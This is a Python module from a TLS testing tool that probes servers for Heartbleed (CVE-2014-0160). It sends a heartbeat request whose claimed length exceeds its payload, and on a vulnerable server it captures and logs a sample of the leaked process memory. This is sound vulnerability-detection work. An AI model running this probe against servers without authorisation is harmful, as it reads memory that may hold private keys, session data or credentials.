"""Heartbleed (CVE-2014-0160): does the server answer a HeartbeatRequest whose
payload_length exceeds its payload with that many bytes?

RFC 6520 §4: "If the payload_length of a received HeartbeatMessage is too large, the
received HeartbeatMessage MUST be discarded silently."  OpenSSL 1.0.1 to 1.0.1f copied
payload_length bytes from its receive buffer instead, leaking up to 64 KiB of process memory
per request, before or after the handshake completed.

The probe: a TLS 1.2 ClientHello offering Heartbeat (RFC 6520 §2), the server's flight up to
ServerHelloDone, then in clear a HeartbeatRequest claiming :data:`CLAIMED` bytes of payload
while carrying one, followed by a well-formed request (so a conforming server, which
discards the first and echoes the second, is recognised without waiting for a timeout).
Vulnerable = a HeartbeatResponse longer than the one byte sent.
"""
from __future__ import annotations

from ...proto.errors import TLSError
from ...proto.heartbeat import (HEARTBEAT_RESPONSE, MIN_PADDING, HeartbeatMessage, HeartbeatMode,
                                 request)
from ...proto.names import ContentType
from .exchange import Exchange, client_hello, guarded, hello_not_answered, remaining
from .result import CheckResult

NAME = "HEARTBLEED"
#: the payload_length claimed (a 16 KiB over-read: enough to tell, without asking for 64 KiB)
CLAIMED = 16384
PAYLOAD = b"\x01"
#: the well-formed request sent after it, whose echo proves the first was discarded
PROBE_OK = b"tlslab heartbeat check"
#: how long to wait for the answers once both requests are out
WAIT = 3.0


async def check_heartbleed(target, deadline: float) -> CheckResult:
    """Heartbleed (CVE-2014-0160, RFC 6520 §4) against ``target``; ``deadline`` is an
    absolute :func:`time.monotonic` time."""
    return await guarded(NAME, _check, target, deadline)


async def _check(target, deadline: float) -> CheckResult:
    async with await Exchange.open(target, deadline) as x:
        flight = await x.hello(client_hello(target, heartbeat=True))
        if flight.server_hello is None or not (flight.done or flight.resumed):
            return hello_not_answered(NAME, flight, "Heartbleed")
        ext = flight.ext(15)
        negotiated = ext is not None
        try:  # RFC 6520 §2: the server's mode (1: we may send requests)
            mode = HeartbeatMode.parse(ext.data).mode if negotiated else None
        except TLSError:
            mode = f"malformed ({ext.data.hex()})"
        bad = request(PAYLOAD, payload_length=CLAIMED)
        good = request(PROBE_OK, padding=bytes(MIN_PADDING))
        sent = await x.send(x.record(ContentType.heartbeat, bad) + x.record(ContentType.heartbeat, good))
        answer = await x.answer(remaining(deadline, WAIT), enough=_enough) if sent else None
    hb = "heartbeat negotiated" if negotiated else "heartbeat not negotiated, sent anyway"
    what = (f"sent (after ServerHelloDone, in clear, {hb}) a HeartbeatRequest with "
            f"payload_length={CLAIMED} and {len(PAYLOAD)} byte of payload")
    details = {"heartbeat_negotiated": negotiated, "heartbeat_mode": mode, "payload_length_sent": CLAIMED,
               "payload_sent": len(PAYLOAD)}
    if answer is None:
        return CheckResult(NAME, False, f"{what}; the connection was already closed",
                           {**details, "answer": "closed"})
    data = answer.of_type(ContentType.heartbeat)
    details["answer"] = answer.ended
    if data:
        try:
            first = HeartbeatMessage.parse(data)
        except TLSError:
            first = None
        if first is not None and first.type == HEARTBEAT_RESPONSE and \
                first.payload_length == len(PROBE_OK) and first.payload == PROBE_OK:
            # the answer to the honest request came first: the lying one was dropped
            return CheckResult(NAME, False,
                               f"{what}; it was discarded, and a well-formed request sent next was "
                               f"echoed with its {len(PROBE_OK)} bytes, as RFC 6520 §4 says", details)
        if first is not None and first.type == HEARTBEAT_RESPONSE and first.payload_length > len(PAYLOAD):
            leaked = first.rest[len(PAYLOAD):first.payload_length]
            details.update(response_bytes=len(data), response_payload_length=first.payload_length,
                           leaked_bytes=len(leaked), leaked_sample=leaked[:64].hex())
            return CheckResult(NAME, True,
                               f"{what}; got a {len(data)}-byte HeartbeatResponse with "
                               f"payload_length={first.payload_length}: the server reads past its "
                               f"buffer and sent {len(leaked)} bytes that were never sent to it "
                               f"(they begin {leaked[:24]!r})", details)
        details["response_bytes"] = len(data)
        return CheckResult(NAME, False, f"{what}; got a {len(data)}-byte heartbeat message that "
                           "carries no more than was sent", details)
    if answer.alert:
        return CheckResult(NAME, False, f"{what}; the server answered with alert {answer.alert} "
                           "and no HeartbeatResponse", details)
    how = {"timeout": f"no HeartbeatResponse within {WAIT:g} s", "closed": "the server closed the "
           "connection without a HeartbeatResponse", "reset": "the server reset the connection"}
    return CheckResult(NAME, False, f"{what}; {how.get(answer.ended, answer.ended)}", details)


def _enough(answer) -> bool:
    """Stop reading once a whole heartbeat message (as its own header announces) is in."""
    try:
        return HeartbeatMessage.parse(answer.of_type(ContentType.heartbeat)).consistent
    except TLSError:  # not even the 3-byte header yet
        return False


__all__ = ["check_heartbleed"]
